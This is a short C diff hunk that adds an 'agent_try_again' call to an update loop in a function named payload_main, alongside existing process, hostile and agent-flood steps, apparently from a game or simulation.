@@ -118,6 +118,7 @@ void payload_main(const StartInfo *info) {
                         moved = true;
                 moved |= processes_run();
                 moved |= hostile_run();
+                moved |= agent_try_again();
                 if (flood)
                         moved |= agent_flood();
                 if (moved)
